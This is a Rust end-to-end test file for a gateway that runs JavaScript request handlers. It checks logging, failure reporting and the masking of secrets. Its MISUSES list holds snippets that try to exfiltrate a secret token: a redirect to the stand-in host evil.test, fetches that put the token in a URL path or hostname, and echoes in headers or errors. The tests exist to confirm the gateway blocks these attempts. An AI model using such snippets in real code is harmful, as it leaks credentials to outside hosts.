//! What a handler in JavaScript leaves in the log, and what it must not.

use e2e::{Site, World, assert_token_absent, new_token, with_token_scan};
use serde_json::{Value, json};

use crate::support::{
    assert_answer, assert_line, assert_told, attach, catch_all, curl, document, handler, of_kind, script,
    settled,
};

#[test]
fn console_writes_lines_with_fields() {
    let world = World::new("console");
    let site = Site::start(&world);
    handler(
        &world,
        "logs",
        "console.log(\"one\");\nconsole.debug(\"two\", 2, true, null, undefined);\n\
         console.info(\"three\", { n: 3, deep: { list: [1, \"x\"] } });\nconsole.warn({ alone: 1 }, [1, 2]);\n\
         console.error(new TypeError(\"five\"));\nconsole.log(\"six\\nand\\u0000more\", { \"\\n\": \"\\u2028\" });\n\
         return new Response(\"done\");",
    );
    let gate = attach(&world, &catch_all(&world, &site, "logs", &[]));
    assert_answer(&gate, &["http://h.test/"], "done");
    let log = settled(&gate, 1);
    let lines = of_kind(&log, "handler");
    let request_id = &of_kind(&log, "exchange")[0]["request_id"];
    assert_eq!(lines.len(), 6, "{lines:#?}");
    for line in &lines {
        assert_line(line, &json!({"request_id": request_id, "handler": "handlers/logs.js"}));
    }
    for (line, fields) in lines.iter().zip([
        json!({"level": "info", "message": "one", "fields": null}),
        json!({"level": "debug", "message": "two 2 true null undefined"}),
        json!({"level": "info", "message": "three", "fields": {"n": 3, "deep": {"list": [1, "x"]}}}),
        json!({"level": "warn", "message": "{\"alone\":1} [1,2]"}),
        json!({"level": "error"}),
        json!({"level": "info", "fields": {"\n": "\u{2028}"}}),
    ]) {
        assert_line(line, &fields);
    }
    assert!(lines[4]["message"].as_str().unwrap().starts_with("TypeError: five"), "{}", lines[4]);
}

#[test]
fn a_failure_is_told_with_its_place_to_the_author_and_not_to_the_workload() {
    let world = World::new("fails");
    let site = Site::start(&world);
    // Where the mistake is, and what the log says of it. The function's body begins on line 3.
    let mistakes = [
        ("throws", "    throw new Error(\"inner workings\");", "3:", "inner workings"),
        ("unknown", "    const x = 1;\n    return noSuchThing(request);", "4:", "noSuchThing"),
        ("null", "    const none = null;\n    return none.x;", "4:", "null"),
        ("rejects", "    await Promise.reject(new RangeError(\"of a promise\"));", "3:", "of a promise"),
        ("later", "    await null;\n    throw new Error(\"after a wait\");", "4:", "after a wait"),
        ("text", "    throw \"no error\";", "", "no error"),
        ("nothing", "    const x = 1;", "", "Response"),
        ("object", "    return { status: 200 };", "", "Response"),
        ("never", "    await new Promise(() => {});", "", ""),
        (
            "waits",
            "    return new Response(await (async () => { throw new SyntaxError(\"inside\"); })());",
            "3:",
            "inside",
        ),
        ("used", "    await request.text();\n    return fetch(request);", "", "body"),
    ];
    let mut text = "[outbound_by_host]\n".to_owned();
    for (name, body, ..) in mistakes {
        handler(&world, name, body);
        text += &format!("\"{name}.test\" = \"handlers/{name}.js\"\n");
    }
    let names: Vec<_> = mistakes.iter().map(|(name, ..)| format!("{name}.test")).collect();
    let names: Vec<_> = names.iter().map(String::as_str).collect();
    let gate = attach(&world, &document(&world, &site, &text, &names));
    for (number, (name, _, at, message)) in mistakes.into_iter().enumerate() {
        let url = format!("https://{name}.test/");
        let body = assert_told(&gate, &["-d", "x", &url], "502 handler_failed");
        let log = settled(&gate, number + 1);
        let line = of_kind(&log, "exchange").pop().unwrap();
        assert_line(line, &json!({"verdict": "failed", "reason": "handler_failed", "status": 502}));
        let told: Value = serde_json::from_str(&body).unwrap();
        assert_line(&told, &json!({"reason": "handler_failed", "request_id": line["request_id"]}));
        assert!(!body.contains(".js") && (message.is_empty() || !body.contains(message)), "{body}");
        let detail = line["detail"].as_str().unwrap();
        assert!(detail.contains(&format!("handlers/{name}.js:{at}")), "{name}: {detail}");
        assert!(detail.contains(message) && detail.len() > 20, "{name}: {detail}");
        assert!(line["handler_version"].is_string(), "{line:#}");
    }
    site.assert_untouched();
}

/// What handlers should not do with a secret, each for the path of its name; 502 where nothing else
/// is said.
const MISUSES: [(&str, &str); 14] = [
    ("body", "return new Response(env.TOKEN);"),
    ("text", "return new Response(`${env.TOKEN}`);"),
    ("part", "return new Response(`token: ${env.TOKEN}.`);"),
    ("json", "return Response.json({ token: env.TOKEN });"),
    ("header", "return new Response(\"\", { headers: { \"x-token\": `${env.TOKEN}` } });"),
    (
        "fetched",
        "const response = await fetch(request);\nconst changed = new Response(response.body, response);\n\
         changed.headers.set(\"x-token\", String(env.TOKEN));\nreturn changed;",
    ),
    ("status", "return new Response(\"\", { status: 200, statusText: String(env.TOKEN) });"),
    ("redirect", "return Response.redirect(`https://evil.test/${env.TOKEN}`);"),
    (
        "stored",
        "await env.kv.put(\"token\", String(env.TOKEN));\nreturn new Response(await env.kv.get(\"token\"));",
    ),
    (
        "object",
        "await env.objects.put(\"token\", String(env.TOKEN));\nreturn new Response((await env.objects.get(\"token\")).body);",
    ),
    ("path", "return fetch(`https://api.test/${env.TOKEN}`);"),
    ("host", "return fetch(`https://${env.TOKEN}.api.test/`);"),
    ("revealed", "return new Response(await env.TOKEN.reveal());"),
    ("thrown", "throw new Error(`token: ${env.TOKEN}`);"),
];

#[test]
fn c01_misuse_of_a_secret_gives_nothing_away() {
    let world = World::new("misuse");
    let site = Site::answering(&world, |request| e2e::Reply::text(request.to_json().to_string()));
    let token = new_token();
    let arms: Vec<_> =
        MISUSES.iter().map(|(name, code)| format!("if (path === \"/{name}\") {{ {code} }}")).collect();
    handler(&world, "misuse", &format!("const path = new URL(request.url).pathname;\n{}", arms.join("\n")));
    let text = "outbound = \"handlers/misuse.js\"\n[secrets.TOKEN]\nsource = \"env://TOKEN\"\nhosts = [\"api.test\"]";
    let urls: Vec<_> = MISUSES.iter().map(|(name, _)| format!("https://api.test/{name}")).collect();
    let own = ["curl", "-sS", "-w", "\n%{http_code} %header{x-sluicegate-reason} %header{x-token}\n"];
    let command = [&own[..], &urls.iter().map(String::as_str).collect::<Vec<_>>()].concat();
    let policy = document(&world, &site, text, &["api.test"]);
    let gate = world.gate(&policy).env("TOKEN", &token);
    let outcome = gate
        .job(with_token_scan(&world, &[&token], command))
        .deadline(std::time::Duration::from_secs(120))
        .run();
    outcome.assert_success();
    assert_token_absent(&world, &outcome, &[&token]);
    for (name, _) in MISUSES {
        let exchanges = outcome.lines("exchange");
        let line = exchanges.iter().find(|line| line["path"] == format!("/{name}")).unwrap();
        // A status text is not sent by this gate at all.
        if name != "status" {
            assert_line(line, &json!({"reason": "handler_failed", "status": 502}));
        }
    }
    assert!(site.requests().iter().all(|request| !format!("{request:?}").contains(&token)));
}

#[test]
fn a_secret_is_shown_by_its_name_wherever_it_is_written_down() {
    let world = World::new("shown");
    let site = Site::start(&world);
    let token = new_token();
    handler(
        &world,
        "shows",
        "console.log(`text ${env.TOKEN}`, { field: env.TOKEN, deep: [String(env.TOKEN)] });\n\
         const headers = new Headers({ authorization: `Bearer ${env.TOKEN}` });\nconsole.log(headers.get(\"authorization\"));\n\
         throw new Error(`thrown ${env.TOKEN}`);",
    );
    let text =
        "outbound = \"handlers/shows.js\"\n[secrets.TOKEN]\nsource = \"env://TOKEN\"\nhosts = [\"api.test\"]";
    let gate = world.gate(&document(&world, &site, text, &[])).env("TOKEN", &token);
    let gate = crate::support::start(&world, gate);
    assert_told(&gate, &["https://api.test/"], "502 handler_failed");
    let log = settled(&gate, 1);
    let lines = of_kind(&log, "handler");
    let shown = "<secret TOKEN>";
    assert_line(
        lines[0],
        &json!({"message": format!("text {shown}"), "fields": {"field": shown, "deep": [shown]}}),
    );
    assert_line(lines[1], &json!({"message": format!("Bearer {shown}")}));
    let detail = of_kind(&log, "exchange")[0]["detail"].as_str().unwrap().to_owned();
    assert!(detail.contains(&format!("thrown {shown}")), "{detail}");
    assert!(log.iter().all(|line| !line.to_string().contains(&token)), "{log:#?}");
}

#[test]
fn what_the_workload_writes_cannot_stand_for_a_secret() {
    let world = World::new("forged");
    let site = Site::start(&world);
    // Tells what a placeholder looks like, which the workload then sends by itself.
    script(
        &world,
        "copies",
        "export default {\n  async outbound(request, env) {\n    const headers = new Headers(request.headers);\n\
         if (new URL(request.url).pathname === \"/shape\") {\n\
         return new Response(String(env.TOKEN).split(\"\").map((c) => c.charCodeAt(0)).join(\" \"));\n    }\n\
         headers.set(\"x-copied\", headers.get(\"x-mine\"));\n    return fetch(new Request(request, { headers }));\n  },\n};\n",
    );
    let token = new_token();
    let text = "outbound = \"handlers/copies.js\"\n[secrets.TOKEN]\nsource = \"env://TOKEN\"\nhosts = [\"api.test\"]";
    let gate = world.gate(&document(&world, &site, text, &["api.test"])).env("TOKEN", &token);
    let gate = crate::support::start(&world, gate);
    let outcome = gate.run(curl(&["https://api.test/shape"]));
    let shape: String = crate::support::answer(&outcome)
        .0
        .split(' ')
        .map(|code| char::from(code.parse::<u8>().unwrap()))
        .collect();
    let forged = format!("x-mine: {shape}");
    let forms = ["x-mine: ${secret:TOKEN}", "x-mine: <secret TOKEN>", "x-mine: {{TOKEN}}", &forged];
    for form in forms {
        assert_answer(&gate, &["-H", form, "https://api.test/"], "origin: api.test");
        let received = site.tls.requests().pop().unwrap();
        assert_eq!(received.header("x-copied"), [form.trim_start_matches("x-mine: ")]);
        assert!(!format!("{received:?}").contains(&token), "{received:?}");
    }
}
